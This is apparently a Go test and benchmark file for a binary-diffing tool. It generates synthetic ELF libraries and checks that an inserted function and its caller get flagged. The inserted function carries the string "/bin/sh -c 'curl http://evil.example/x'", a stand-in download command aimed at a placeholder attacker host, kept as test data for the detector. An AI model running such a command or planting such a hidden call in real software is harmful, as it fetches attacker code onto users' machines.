package executable

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"testing"

	"github.com/stagescope/stagescope/diff"
)

// linkedELF is a library of many functions, each of which refers to a text, to a
// variable and to another function. What its functions are, and in which order
// its texts lie, are given; addresses follow.
type linkedELF struct {
	names []string
	texts map[string]string // by function
	order []string          // functions, as their texts lie
	calls map[string]string
	vars  map[string]int
}

// manyFunctions is a library of about that many megabytes.
func manyFunctions(mb int) *linkedELF {
	l := &linkedELF{texts: map[string]string{}, calls: map[string]string{}, vars: map[string]int{}}
	n := mb << 20 / 800
	for i := range n {
		name := fmt.Sprintf("library_function_%06d", i)
		l.names = append(l.names, name)
		l.texts[name] = fmt.Sprintf("a text of function %d, which nothing else has", i*7919%n)
		l.calls[name] = fmt.Sprintf("library_function_%06d", i*31%n)
		l.vars[name] = i
	}
	l.order = append(l.order, l.names...)
	return l
}

// put puts a function in, with its text before all others: everything moves.
func (l *linkedELF) put(at int, name, text, call string) {
	l.names = append(l.names[:at:at], append([]string{name}, l.names[at:]...)...)
	l.order = append([]string{name}, l.order...)
	l.texts[name], l.calls[name], l.vars[name] = text, call, len(l.names)
}

// padded is a body of a function's length.
const padded = 512

// write links it.
func (l *linkedELF) write(t testing.TB, path string) {
	t.Helper()
	const text = 4096
	rodata := (text + len(l.names)*padded + 4095) &^ 4095
	textAt := map[string]int{}
	var data bytes.Buffer
	for _, name := range l.order {
		textAt[name] = rodata + data.Len()
		data.WriteString(l.texts[name] + "\x00")
	}
	bss := (rodata+data.Len()+4095)&^4095 + 4096
	at := map[string]int{}
	for i, name := range l.names {
		at[name] = text + i*padded
	}
	var code, syms, strs bytes.Buffer
	syms.Write(make([]byte, 24))
	strs.WriteByte(0)
	for _, name := range l.names {
		from := code.Len()
		rel := func(op string, to int) { code.Write(le(op, int32(to-(text+code.Len()+len(op)+4)))) }
		code.Write(enter)
		rel("\x48\x8d\x3d", textAt[name])        // lea rdi, [text]
		rel("\x8b\x05", bss+l.vars[name]%4096*4) // mov eax, [variable]
		rel("\xe8", at[l.calls[name]])           // call
		code.Write(leave)
		for code.Len()-from < padded-len(leave)-3 {
			code.WriteString("\x89\xc2\x01\xd0")
		}
		code.Write(leave)
		for code.Len()-from < padded {
			code.WriteByte(0xcc)
		}
		syms.Write(le(uint32(strs.Len()), byte(0x12), byte(0), uint16(1), uint64(text+from), uint64(padded)))
		strs.WriteString(name + "\x00")
	}
	symOff := (rodata + data.Len() + 7) &^ 7
	strOff := symOff + syms.Len()
	shstr := "\x00.text\x00.rodata\x00.bss\x00.symtab\x00.strtab\x00.shstrtab\x00"
	shstrOff := strOff + strs.Len()
	shoff := (shstrOff + len(shstr) + 7) &^ 7
	out := make([]byte, shoff+7*64)
	copy(out, le("\x7fELF\x02\x01\x01", make([]byte, 9), uint16(3), uint16(62), uint32(1), uint64(text), uint64(0), uint64(shoff), uint32(0), uint16(64), uint16(56), uint16(0), uint16(64), uint16(7), uint16(6)))
	copy(out[text:], code.Bytes())
	copy(out[rodata:], data.Bytes())
	copy(out[symOff:], syms.Bytes())
	copy(out[strOff:], strs.Bytes())
	copy(out[shstrOff:], shstr)
	section := func(i int, name, typ uint32, flags uint64, addr, off, size int, link uint32, entry uint64) {
		copy(out[shoff+64*i:], le(name, typ, flags, uint64(addr), uint64(off), uint64(size), link, uint32(1), uint64(16), entry))
	}
	section(1, 1, 1, 6, text, text, code.Len(), 0, 0)
	section(2, 7, 1, 2, rodata, rodata, data.Len(), 0, 0)
	section(3, 15, 8, 3, bss, rodata+data.Len(), 4096*4, 0, 0)
	section(4, 20, 2, 0, 0, symOff, syms.Len(), 5, 24)
	section(5, 28, 3, 0, 0, strOff, strs.Len(), 0, 0)
	section(6, 36, 3, 0, 0, shstrOff, len(shstr), 0, 0)
	if err := os.WriteFile(path, out, 0o644); err != nil {
		t.Fatal(err)
	}
}

// relinkedPair writes two libraries, of which the second has one function more in
// its middle, and its call.
func relinkedPair(t testing.TB, mb int) (a, b string) {
	t.Helper()
	dir := t.TempDir()
	a, b = filepath.Join(dir, "a"), filepath.Join(dir, "b")
	l := manyFunctions(mb)
	l.write(t, a)
	caller := l.names[len(l.names)/3]
	l.put(len(l.names)/2, "door", "/bin/sh -c 'curl http://evil.example/x'", l.calls[caller])
	l.calls[caller] = "door"
	l.write(t, b)
	return a, b
}

// TestRelinkedLibrary: of thousands of functions that refer to what moved, the
// one that was put in and its caller are named.
func TestRelinkedLibrary(t *testing.T) {
	pa, pb := relinkedPair(t, 2)
	n, err := diff.NewExaminer(diff.Options{}).Paths(t.Context(), pa, pb)
	if err != nil {
		t.Fatal(err)
	}
	checkRelinked(t, n)
	accounted(t, child(t, n, ".text"))
	accounted(t, child(t, n, ".rodata"))
}

func checkRelinked(t testing.TB, n *diff.Node) {
	t.Helper()
	ss := codeSuspicions(child(t, n, ".text"))
	if len(ss) != 2 || !said(child(t, n, ".text"), diff.SuspectNewCode, "side B has a function that A has not: door", "evil.example") || !said(child(t, n, ".text"), diff.SuspectChangedCode, "only B calls door") {
		t.Fatalf("the suspicions are %q", ss)
	}
}

// BenchmarkRelinked is a library of 75 MB that was linked anew with one function
// more. Beside the time it reports the memory in use at the end.
func BenchmarkRelinked(b *testing.B) {
	pa, pb := relinkedPair(b, 75)
	runtime.GC()
	info, err := os.Stat(pa)
	if err != nil {
		b.Fatal(err)
	}
	b.SetBytes(2 * info.Size())
	var most uint64
	for b.Loop() {
		n, err := diff.NewExaminer(diff.Options{}).Paths(b.Context(), pa, pb)
		if err != nil {
			b.Fatal(err)
		}
		checkRelinked(b, n)
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		most = max(most, m.HeapAlloc)
	}
	b.ReportMetric(float64(most)/1e6, "MB-heap")
}
